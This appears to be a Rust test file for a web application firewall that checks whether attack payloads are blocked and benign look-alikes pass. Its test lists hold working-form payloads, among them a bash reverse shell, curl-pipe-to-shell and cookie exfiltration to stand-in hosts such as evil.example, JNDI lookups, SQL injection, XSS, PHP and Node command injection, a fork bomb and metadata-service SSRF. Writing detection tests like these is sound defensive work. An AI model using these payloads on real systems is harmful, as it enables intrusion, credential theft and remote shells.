//! Coverage classes added to close the gaps against ModSecurity + CRS (issue 9): each
//! class is tested with payloads written by us in several positions, beyond the rules'
//! own examples, and with benign look-alikes that must pass.

use base64::Engine as _;
use palisade_waf::raw::OwnedRequest;
use palisade_waf::{Action, Engine, RuleSet, WafSettings};

fn engine() -> Engine {
    Engine::new(RuleSet::embedded().expect("embedded rules compile"))
}

fn blocked(engine: &Engine, paranoia: u8, req: &OwnedRequest) -> bool {
    engine
        .inspect(
            &req.view(),
            &WafSettings::default().with_paranoia(paranoia),
            None,
        )
        .action
        == Action::Block
}

fn form_encode(v: &[u8]) -> String {
    let mut out = String::new();
    for &b in v {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn req(method: &str, target: &str, headers: &[(&str, &[u8])], body: &[u8]) -> OwnedRequest {
    OwnedRequest {
        method: method.to_string(),
        target: target.to_string(),
        headers: headers
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_vec()))
            .collect(),
        body: body.to_vec(),
    }
}

/// The value as a query argument, a form field, a JSON field and a cookie.
fn positions(value: &str) -> Vec<OwnedRequest> {
    let enc = form_encode(value.as_bytes());
    let json = serde_json::json!({ "data": value }).to_string();
    let form = format!("data={enc}");
    vec![
        req("GET", &format!("/x?data={enc}"), &[], b""),
        req(
            "POST",
            "/x",
            &[("content-type", b"application/x-www-form-urlencoded")],
            form.as_bytes(),
        ),
        req(
            "POST",
            "/x",
            &[("content-type", b"application/json")],
            json.as_bytes(),
        ),
        req("GET", "/x", &[("cookie", form.as_bytes())], b""),
    ]
}

/// Every payload is blocked at paranoia 1 in every position `positions` puts it.
fn blocked_in_every_position(engine: &Engine, payloads: &[&str]) {
    for payload in payloads {
        for r in positions(payload) {
            assert!(
                blocked(engine, 1, &r),
                "{payload} missed in {} {}",
                r.method,
                r.target
            );
        }
    }
}

/// Every benign value passes at paranoia 1 in every position.
fn passed_in_every_position(engine: &Engine, values: &[&str]) {
    for value in values {
        for r in positions(value) {
            assert!(!blocked(engine, 1, &r), "{value} blocked");
        }
    }
}

/// A small deterministic generator, so the "any alignment" tests cover many offsets and
/// neighbours without depending on a random crate.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u8 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) as u8
    }
}

#[test]
fn java_gadget_names_are_found_in_base64_at_every_alignment() {
    let engine = engine();
    let mut rng = Lcg(7);
    for name in [
        "InvokerTransformer",
        "ChainedTransformer",
        "prototypeclonefactory",
        "ProcessBuilder",
        "TemplatesImpl",
        "WhileClosure",
    ] {
        for prefix_len in 0..6 {
            let mut data: Vec<u8> = (0..prefix_len).map(|_| rng.next()).collect();
            data.extend_from_slice(name.as_bytes());
            data.extend((0..5).map(|_| rng.next()));
            let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
            let r = req("GET", "/x", &[("x-data", b64.as_bytes())], b"");
            assert!(
                blocked(&engine, 1, &r),
                "{name} at offset {prefix_len} missed: {b64}"
            );
        }
    }
    // The Java serialization magic, at offsets 1 and 2 of a blob, followed by a stream.
    for prefix_len in 1..3 {
        let mut data: Vec<u8> = (0..prefix_len).map(|_| rng.next()).collect();
        data.extend_from_slice(&[0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]);
        data.extend_from_slice(b"java.util.HashMap");
        let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
        for r in positions(&b64) {
            assert!(
                blocked(&engine, 1, &r),
                "magic at {prefix_len} missed: {b64}"
            );
        }
    }
}

#[test]
fn benign_base64_blobs_pass() {
    let engine = engine();
    let mut rng = Lcg(11);
    // Random binary blobs (images, keys) and base64 text about Java pass at paranoia 1.
    for _ in 0..200 {
        let data: Vec<u8> = (0..300).map(|_| rng.next()).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
        for r in positions(&b64) {
            assert!(!blocked(&engine, 1, &r), "random blob blocked: {b64}");
        }
    }
    let text = "Our service runs on the Java runtime; see the README for the build steps.";
    let b64 = base64::engine::general_purpose::STANDARD.encode(text);
    for r in positions(&b64) {
        assert!(!blocked(&engine, 1, &r), "base64 prose blocked: {b64}");
    }
}

#[test]
fn java_classes_and_payloads_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
            "java.io.FileOutputStream",
            "javax.naming.InitialContext",
            "java.Runtime",
            "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
            "sun.misc.Unsafe",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "java.lang.NullPointerException: customer is null",
            "Caused by: java.io.FileNotFoundException: config.yml (No such file or directory)",
            "We moved from the Java runtime 17 to 21 last week.",
            "javascript.runtime = node",
        ],
    );
}

#[test]
fn server_script_uploads_are_blocked() {
    let engine = engine();
    for name in ["shell.jsp", "x.php", "a.aspx.", "b. phtml", "c.jspx  "] {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
        );
        let r = req(
            "POST",
            "/upload",
            &[("content-type", b"multipart/form-data; boundary=b")],
            body.as_bytes(),
        );
        assert!(blocked(&engine, 1, &r), "{name} upload passed");
        let r = req("PUT", "/upload", &[("x-filename", name.as_bytes())], b"");
        assert!(blocked(&engine, 1, &r), "{name} in X-Filename passed");
    }
    for name in [
        "report.pdf",
        "photo.jpeg",
        "php-cheatsheet.pdf",
        "site.jsp.tar.gz",
    ] {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
        );
        let r = req(
            "POST",
            "/upload",
            &[("content-type", b"multipart/form-data; boundary=b")],
            body.as_bytes(),
        );
        assert!(!blocked(&engine, 1, &r), "{name} upload blocked");
    }
}

#[test]
fn unix_and_windows_commands_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "x; nohup netstat -an",
            "1 && strace -f whoami",
            "a|timeout 5 nslookup evil.example",
            "$(sudo useradd -m backdoor)",
            "getent passwd",
            "ansible-playbook evil.yml",
            "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
            "& FOR %i IN (*.cfg) DO type %i",
            "IF EXIST C:\\secrets.txt type C:\\secrets.txt",
            "f(){ f|f& };f",
            "$SHELL -c id",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "Tom & Jerry; cat videos are great",
            "If not defined, the default region is used.",
            "if x == 1: print(x)",
            "Use nohup when the job must survive a logout.",
            "The runtime is python3.12 on arm64",
            "R&D; top priority this quarter",
            "#!/bin/sh\nset -eu\nmake build",
        ],
    );
}

#[test]
fn php_injection_forms_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "gzinflate /* x */ (base64_decode($p))",
            "exec\t($_POST['c'])",
            "@$_[a]($_[b])",
            "${'sys'.'tem'}",
            "('passthru')('id')",
            "auto_prepend_file=php://input",
            "{php}echo `id`;{/php}",
            "<?\nphp system('id');",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "Use $t('checkout.total') in the Vue template",
            "$(function () { init(); })",
            "System (default)",
            "The price is $ {amount} per month",
            "print the report",
        ],
    );
}

#[test]
fn protocol_enforcement() {
    let engine = engine();
    let bad = [
        req("TRACE", "/", &[], b""),
        req("FOO", "/", &[], b""),
        req("POST", "/orders/7?_method=DELETE", &[], b""),
        req(
            "POST",
            "/orders/7",
            &[("content-type", b"application/x-www-form-urlencoded")],
            b"_method=put&x=1",
        ),
        req(
            "POST",
            "/orders/7",
            &[("x-http-method-override", b"DELETE")],
            b"",
        ),
        req("GET", "/", &[("proxy", b"http://evil.example:8080")], b""),
        req(
            "POST",
            "/",
            &[(
                "content-type",
                b"application/x-www-form-urlencoded; charset=ibm500",
            )],
            b"a=1",
        ),
        req(
            "POST",
            "/",
            &[("content-type", b"text/plain; charset=utf-8; charset=utf-7")],
            b"a",
        ),
        req(
            "POST",
            "/",
            &[("content-type", b"multipart/evil; boundary=x")],
            b"",
        ),
        req("GET", "/backup/db.sql", &[], b""),
        req(
            "POST",
            "/upload",
            &[("content-type", b"multipart/form-data; boundary=b")],
            b"--b\r\nContent-Disposition: form-data; name=\"doc;evil\"\r\n\r\nx\r\n--b--\r\n",
        ),
        req(
            "POST",
            "/",
            &[("content-type", b"multipart/; boundary=b")],
            b"",
        ),
        req("GET", "/.git/../site.bak", &[], b""),
    ];
    for r in &bad {
        assert!(
            blocked(&engine, 1, r),
            "{} {} {:?} passed",
            r.method,
            r.target,
            r.headers
        );
    }
    let good = [
        req("DELETE", "/orders/7", &[], b""),
        req(
            "PATCH",
            "/orders/7",
            &[("content-type", b"application/merge-patch+json")],
            b"{}",
        ),
        req(
            "POST",
            "/logout",
            &[("content-type", b"application/x-www-form-urlencoded")],
            b"_method=post",
        ),
        req(
            "POST",
            "/",
            &[("content-type", b"application/json; charset=UTF-8")],
            b"{}",
        ),
        req(
            "POST",
            "/rpc",
            &[("content-type", b"application/grpc")],
            b"",
        ),
        req("GET", "/static/app.config.js", &[], b""),
        req("GET", "/docs/changelog", &[], b""),
        req(
            "POST",
            "/upload",
            &[("content-type", b"multipart/form-data; boundary=b")],
            b"--b\r\nContent-Disposition: form-data; name=\"q&amp;a\"; filename=\"notes.txt\"\r\n\r\nx\r\n--b--\r\n",
        ),
        req("POST", "/", &[("content-type", b"text/plain; charset=iso-8859-2")], b"a"),
    ];
    for r in &good {
        assert!(
            !blocked(&engine, 1, r),
            "{} {} {:?} blocked",
            r.method,
            r.target,
            r.headers
        );
    }
}

#[test]
fn protocol_attacks_smuggling_ldap_multipart_charsets() {
    let engine = engine();
    let mp = |part_headers: &str, value: &str| {
        format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n{part_headers}\r\n\r\n{value}\r\n--b--\r\n"
        )
    };
    let utf7 = mp(
        "Content-Type: text/plain; charset=UTF-7",
        "+ADw-script+AD4-",
    );
    let cte = mp("Content-Transfer-Encoding: quoted-printable", "x");
    let bad = [
        req("GET", "/?q=a%0d%0aGET%20/admin%20HTTP/1.1", &[], b""),
        req("GET", "/?user=admin)(%7C(password=*", &[], b""),
        req("GET", "/?next=a%0d%0aX-Forwarded-For:%201.2.3.4", &[], b""),
        req("GET", "/x%0d%0aSet-Thing", &[], b""),
        req("GET", "/?unix:/run/docker.sock|http://x/", &[], b""),
        req(
            "POST",
            "/",
            &[("content-type", b"multipart/form-data; boundary=b")],
            utf7.as_bytes(),
        ),
        req(
            "POST",
            "/",
            &[("content-type", b"multipart/form-data; boundary=b")],
            cte.as_bytes(),
        ),
        req(
            "GET",
            "/?c=document.cookie%3D%22sid%3D1%3B%20domain%3D.evil.example%22",
            &[],
            b"",
        ),
    ];
    for r in &bad {
        assert!(blocked(&engine, 1, r), "{} {} passed", r.method, r.target);
    }
    let utf8 = mp("Content-Type: text/plain; charset=utf-8", "hello");
    let good = [
        req(
            "POST",
            "/",
            &[("content-type", b"multipart/form-data; boundary=b")],
            utf8.as_bytes(),
        ),
        req("GET", "/?q=line%20one%0Aline%20two", &[], b""),
        req("GET", "/?filter=(a)%20and%20(b)", &[], b""),
        req("GET", "/", &[("range", b"bytes=0-1023")], b""),
    ];
    for r in &good {
        assert!(!blocked(&engine, 1, r), "{} {} blocked", r.method, r.target);
    }
}

fn benign_lines() -> Vec<String> {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/benign");
    let mut lines = Vec::new();
    for file in [
        "prose.txt",
        "technical.txt",
        "tokens.txt",
        "more.txt",
        "graphql.txt",
        "international.txt",
    ] {
        let text = std::fs::read_to_string(format!("{dir}/{file}")).expect("benign corpus file");
        lines.extend(
            text.lines()
                .filter(|l| !l.trim().is_empty())
                .map(|l| l.replace("\\n", "\n")),
        );
    }
    lines
}

/// Base64 inside values is decoded at paranoia 2 only, and judged by the SQL, XSS,
/// command, JNDI and path detectors.
#[test]
fn attacks_hidden_in_base64_are_blocked_at_paranoia_2_only() {
    let engine = engine();
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let url = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    for payload in [
        "1' UNION SELECT username, password FROM users-- -",
        "admin' OR '1'='1",
        "<svg/onload=alert(document.domain)>",
        "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
        "; curl http://evil.example/x | sh",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/a}",
        "../../../../etc/shadow",
        "http://169.254.169.254/latest/meta-data/iam/",
    ] {
        for encoded in [b64(payload), url(payload)] {
            for r in positions(&encoded) {
                assert!(
                    blocked(&engine, 2, &r),
                    "{payload:?} as {encoded} passed at paranoia 2"
                );
                assert!(
                    !blocked(&engine, 1, &r),
                    "{payload:?} as {encoded} blocked at paranoia 1 (base64 is a paranoia 2 decoding)"
                );
            }
        }
    }
}

/// The benign corpus (JWTs and base64 blobs included) stays clean at paranoia 2, and a
/// benign line wrapped in base64 is blocked only when the line itself is.
#[test]
fn benign_text_in_base64_stays_clean() {
    let engine = engine();
    let mut wrapped_blocked = Vec::new();
    for line in benign_lines() {
        let encoded = base64::engine::general_purpose::STANDARD.encode(&line);
        let r = req(
            "POST",
            "/x",
            &[("content-type", b"application/json")],
            serde_json::json!({ "data": encoded })
                .to_string()
                .as_bytes(),
        );
        let plain = req(
            "POST",
            "/x",
            &[("content-type", b"application/json")],
            serde_json::json!({ "data": line }).to_string().as_bytes(),
        );
        if blocked(&engine, 2, &r) && !blocked(&engine, 2, &plain) {
            wrapped_blocked.push(line);
        }
    }
    assert!(
        wrapped_blocked.is_empty(),
        "benign lines blocked only once base64-encoded: {wrapped_blocked:?}"
    );
}

/// A path is reflected by error pages and routers, and REST routers hand its segments to
/// queries, as readily as a query argument: markup and SQL in it are judged by the same
/// detectors. REST paths whose segments hold names, quotes, apostrophes or the word
/// JavaScript stay clean.
#[test]
fn markup_and_sql_in_the_path_are_blocked_and_rest_paths_pass() {
    let engine = engine();
    for path in [
        "/index.php/%3Csvg/onload=alert(1)%3E",
        "/products/%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/a/%22%20onmouseover=%22alert(1)",
        "/view/%3Cimg%20src=x%20onerror=prompt(1)%3E/details",
        "/users/42'%20or%20'1'='1",
        "/items/x'%20and%20sleep(5)--",
        "/reports/1%20union%20select%20password%20from%20users",
    ] {
        for paranoia in [1, 2] {
            assert!(
                blocked(&engine, paranoia, &req("GET", path, &[], b"")),
                "paranoia {paranoia}: {path} passed"
            );
        }
    }
    for path in [
        "/api/v1/users/42/orders/ORD-2024-000123",
        "/wiki/Rock_%27n%27_roll",
        "/authors/O%27Neil/books",
        "/books/JavaScript:_The_Good_Parts",
        "/search/%22running%20shoes%22",
        "/docs/a%20%3C%20b%20and%20c%20%3E%20d",
        "/static/app.3f4a9c.js",
        "/files/My%20Document%20(final).pdf",
        "/blog/2024/03/why-we-don%27t-use-orms",
        "/graphql",
        "/v2/repos/acme/widgets/compare/main...feature%2Fnew-ui",
    ] {
        for paranoia in [1, 2] {
            assert!(
                !blocked(&engine, paranoia, &req("GET", path, &[], b"")),
                "paranoia {paranoia}: {path} blocked"
            );
        }
    }
}

/// URL parsers map ideographic full stops and circled digits and letters to ASCII in a
/// host (UTS #46), so an address spelled with them reaches the same place.
#[test]
fn unicode_spellings_of_internal_addresses_are_ssrf() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "http://169。254。169。254/latest/meta-data/",
            "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
            "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8080/admin",
        ],
    );
    passed_in_every_position(
        &engine,
        &["Ⓐ①: first item。Second item ②", "見てください。ありがとう"],
    );
}

/// Server-side JavaScript injection reaches for the module loader, `process` internals or
/// the Function constructor; developer prose that names modules or `process.env` passes.
#[test]
fn nodejs_code_injection_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "require('child_process').execSync('cat /etc/hostname')",
            "#{process.mainModule.require('fs').readFileSync('/etc/hostname')}",
            "a=1;this.constructor.constructor('return this.process')().exit()",
            "require.main.require('net').connect(4444,'attacker.example')",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "Read process.env.DATABASE_URL at start-up and require a restart after changes",
            "The fs and net modules ship with Node; child_process is for spawning programs.",
            "import { readFile } from 'node:fs/promises' is the modern form",
        ],
    );
}

/// JSON operators let an injection compare JSON literals instead of strings and numbers
/// (a WAF bypass published against several vendors); documentation that names the
/// operators and types passes.
#[test]
fn sql_injection_through_json_operators_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "OR '{\"role\":\"admin\"}'::jsonb <@ '{\"role\":\"admin\",\"x\":1}'::jsonb",
            "AND '[1,2]'::jsonb ? '1'",
            "OR json_extract('{\"a\": 1}', '$.a') = 1",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "Store settings in a jsonb column and query them with the @> operator",
            "json_extract returns NULL when the path is missing",
            "The cast ::jsonb is cheaper than parsing twice",
        ],
    );
}

/// PHP calls whatever expression yields a function name, so `system` need not be written
/// as a plain call; PHP tutorials that show concatenation or name functions pass.
#[test]
fn php_calls_through_computed_names_in_every_position() {
    let engine = engine();
    blocked_in_every_position(
        &engine,
        &[
            "(shell_exec)('cat /etc/hostname');",
            "[passthru][0]('id');",
            "$f = 'pass'.'thru'; $f('id');",
            "('sys' . 'tem')('ls -la')",
        ],
    );
    passed_in_every_position(
        &engine,
        &[
            "In PHP, 'foo' . 'bar' joins two strings; echo it to see foobar.",
            "The call (exec) is blocked by disable_functions on shared hosts.",
            "Use 'json'.'_encode' only as an example of concatenation",
        ],
    );
}
